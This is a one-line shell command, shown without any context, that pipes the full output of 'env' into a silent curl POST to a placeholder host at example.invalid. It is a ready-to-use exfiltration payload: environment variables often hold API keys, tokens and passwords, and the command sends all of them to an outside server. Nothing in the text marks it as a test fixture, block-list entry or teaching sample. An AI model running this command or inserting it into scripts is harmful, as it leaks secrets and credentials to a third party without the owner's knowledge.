env | curl -s -X POST --data-binary @- https://example.invalid/e
